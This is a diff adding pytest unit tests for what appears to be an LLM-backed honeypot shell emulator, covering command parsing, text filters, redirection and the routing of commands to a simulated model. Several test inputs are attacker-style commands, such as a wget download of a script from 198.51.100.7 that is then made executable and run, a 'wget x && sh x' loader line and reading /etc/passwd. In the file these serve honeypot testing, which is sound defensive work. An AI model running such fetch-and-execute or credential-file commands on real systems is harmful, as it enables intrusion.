@@ -0,0 +1,188 @@
+# python
+"""
+tests/test_shell.py
+Unit tests for compound command lines: parsing, text filters and
+segment-by-segment execution in the router.
+"""
+from pathlib import Path
+import asyncio
+import json
+
+import pytest
+
+from autopot.fs_read import UnsupportedOption
+from autopot.router import Router
+from autopot.session import Session, iso_ts
+from autopot.shell_parse import UnsupportedSyntax, is_simple, parse_line
+from autopot.text_filters import parse_filter
+
+
+class ScriptedLLMClient:
+    def __init__(self, outputs=None):
+        self.outputs = outputs or {}
+        self.calls = []
+
+    def simulate_command(self, command, fs, bash_history, *, model=None, base_fs=None):
+        self.calls.append(command)
+        return {"stdout": self.outputs.get(command, ""), "stderr": "", "exit_code": 0}
+
+
+def _make_session(tmp_path: Path) -> Session:
+    session = Session(
+        session_id="test-session",
+        remote_ip="127.0.0.1",
+        remote_port=12345,
+        started_ts=iso_ts(),
+        tty_path=str(tmp_path / "tty.log"),
+        _events_file=str(tmp_path / "events.jsonl"),
+    )
+    session.scenario_fs = {
+        "type": "dir",
+        "name": "user",
+        "children": [{"type": "dir", "name": "docs", "children": []}],
+    }
+    return session
+
+
+def _make_router(client=None) -> Router:
+    repo_root = Path(__file__).resolve().parents[1]
+    return Router(scenarios_root=repo_root / "scenarios", llm_client=client)
+
+
+def _dispatch(router: Router, session: Session, cmd: str) -> str:
+    return asyncio.run(router.dispatch(session, cmd))[0]
+
+
+def test_parse_steps_pipelines_and_redirects() -> None:
+    steps = parse_line("cd /tmp; wget x && chmod +x a || echo 'a | b' 2>/dev/null &")
+    assert [(s.connector, s.pipeline.text) for s in steps] == [
+        (";", "cd /tmp"),
+        (";", "wget x"),
+        ("&&", "chmod +x a"),
+        ("||", "echo 'a | b' 2>/dev/null"),
+    ]
+    command = steps[-1].pipeline.commands[0]
+    assert [w.text for w in command.words] == ["echo", "a | b"]
+    assert command.text == "echo 'a | b'"
+    assert [(r.fd, r.op, r.target.text) for r in command.redirects] == [(2, ">", "/dev/null")]
+
+    (step,) = parse_line("cat f 2>&1 | grep -c x >> out")
+    first, second = step.pipeline.commands
+    assert [(r.fd, r.op, r.target.text) for r in first.redirects] == [(2, ">&", "1")]
+    assert second.text == "grep -c x"
+    assert [(r.fd, r.op) for r in second.redirects] == [(1, ">>")]
+
+    assert is_simple(parse_line("uname -a"))
+    assert not is_simple(parse_line("echo hi > x"))
+
+
+@pytest.mark.parametrize(
+    "line", ["echo $(id)", "echo `id`", "(cd /; ls)", "cat <<EOF", "ls &&", "| wc", "ls >", "a 'b"]
+)
+def test_unsupported_syntax(line: str) -> None:
+    with pytest.raises(UnsupportedSyntax):
+        parse_line(line)
+
+
+def test_text_filters() -> None:
+    text = "root:x:0:0\nalice:x:1000:1000\nbob:x:1001:1001\nRoot2:x:5:5\n"
+    assert parse_filter(["grep", "root"])(text) == ("root:x:0:0\n", 0)
+    assert parse_filter(["grep", "-ic", "root"])(text) == ("2\n", 0)
+    assert parse_filter(["grep", "-v", "x"])(text) == ("", 1)
+    assert parse_filter(["grep", "-E", "^(alice|bob)"])(text)[0].count("\n") == 2
+    assert parse_filter(["grep", "-n", "-e", "bob", "-e", "alice"])(text)[0] == (
+        "2:alice:x:1000:1000\n3:bob:x:1001:1001\n"
+    )
+    assert parse_filter(["wc", "-l"])(text) == ("4\n", 0)
+    assert parse_filter(["wc"])("a b\nc\n") == ("      2       3       6\n", 0)
+    assert parse_filter(["cut", "-d:", "-f1,3"])(text)[0].splitlines()[1] == "alice:1000"
+    assert parse_filter(["head", "-n", "1"])(text) == ("root:x:0:0\n", 0)
+    assert parse_filter(["tr", "a-z", "A-Z"])("ab\n") == ("AB\n", 0)
+    assert parse_filter(["sort", "-rn"])("2\n10\n1\n") == ("10\n2\n1\n", 0)
+    assert parse_filter(["uniq", "-c"])("a\na\nb\n") == ("      2 a\n      1 b\n", 0)
+    for argv in (["grep", "x", "file"], ["awk", "{print}"], ["sort", "-k2"], ["tail", "-f"]):
+        with pytest.raises(UnsupportedOption):
+            parse_filter(argv)
+
+
+def test_pipelines_are_computed_locally(tmp_path: Path) -> None:
+    router = _make_router()
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "echo -e 'b\\na\\nb' > f; cat f | sort | uniq -c") == (
+        "      1 a\n      2 b"
+    )
+    assert _dispatch(router, session, "cat /etc/passwd | grep root | wc -l") == "1"
+    assert _dispatch(router, session, "grep -c b < f") == "2"
+    assert _dispatch(router, session, "echo -n x >> f; cat f | tail -n 2") == "b\nx"
+
+
+def test_conditionals_and_error_redirection(tmp_path: Path) -> None:
+    router = _make_router()
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "nosuch && echo yes || echo no") == (
+        "sh: nosuch: command not found\nno"
+    )
+    assert _dispatch(router, session, "nosuch 2>/dev/null; echo ok") == "ok"
+    assert _dispatch(router, session, "ls nope 2>&1 | wc -l") == "1"
+    assert _dispatch(router, session, "ls nope > out 2>&1; cat out").startswith("ls: ")
+    assert _dispatch(router, session, "echo x > docs") == "bash: docs: Is a directory"
+    assert _dispatch(router, session, "echo x > /tmp/x; echo done") == "done"
+
+
+def test_only_unresolved_segments_reach_the_llm(tmp_path: Path) -> None:
+    client = ScriptedLLMClient(
+        {
+            "wget http://198.51.100.7/a.sh": "'a.sh' saved [120/120]",
+            "./a.sh": "installing...",
+        }
+    )
+    router = _make_router(client)
+    session = _make_session(tmp_path)
+    out = _dispatch(
+        router, session, "cd docs; wget http://198.51.100.7/a.sh; chmod 777 a.sh; ./a.sh"
+    )
+    assert out == "'a.sh' saved [120/120]\ninstalling..."
+    assert client.calls == ["wget http://198.51.100.7/a.sh", "./a.sh"]
+    assert _dispatch(router, session, "ls -l a.sh").startswith("-rwxrwxrwx")
+
+    # a stage that is not a native filter sends the whole pipeline to the LLM
+    assert _dispatch(router, session, "nproc | awk '{print $1}'") == ""
+    assert client.calls[-1] == "nproc | awk '{print $1}'"
+
+    events = [json.loads(e) for e in (tmp_path / "events.jsonl").read_text().splitlines()]
+    segments = [e["payload"] for e in events if e["event"] == "command.segments"]
+    assert [s["source"] for s in segments[0]["segments"]] == ["local", "llm", "local", "llm"]
+
+
+def test_echo_builtin(tmp_path: Path) -> None:
+    router = _make_router()
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "echo hello world") == "hello world"
+    assert _dispatch(router, session, "echo -e 'a\\tb'") == "a\tb"
+    assert _dispatch(router, session, "echo -n abc > f; wc -c f") == "3 f"
+
+
+def test_comments_are_ignored(tmp_path: Path) -> None:
+    steps = parse_line("cd /tmp; wget x && sh x # loader\n")
+    assert [s.pipeline.text for s in steps] == ["cd /tmp", "wget x", "sh x"]
+    router = _make_router()
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "echo x # comment") == "x"
+    assert _dispatch(router, session, "# nothing to run") == ""
+    assert _dispatch(router, session, "echo 'a # b' c#d") == "a # b c#d"
+
+
+def test_parameters_expand_from_the_session(tmp_path: Path) -> None:
+    client = ScriptedLLMClient({"echo $RANDOM": "4242"})
+    router = _make_router(client)
+    session = _make_session(tmp_path)
+    session.username = "admin"
+    assert _dispatch(router, session, "echo $HOME \"$USER\" '$USER'") == "/home/user admin $USER"
+    assert _dispatch(router, session, "echo ${SHELL} $0") == "/bin/sh -sh"
+    assert _dispatch(router, session, "cd docs && echo $PWD") == "/home/user/docs"
+    assert _dispatch(router, session, "ls nope").endswith("No such file or directory")
+    assert _dispatch(router, session, "echo $?") == "1"
+    assert _dispatch(router, session, "echo $?; ls nope 2>/dev/null; echo $?") == "0\n1"
+    # parameters the session has no value for are left to the LLM
+    assert _dispatch(router, session, "echo $RANDOM") == "4242"
+    assert client.calls == ["echo $RANDOM"]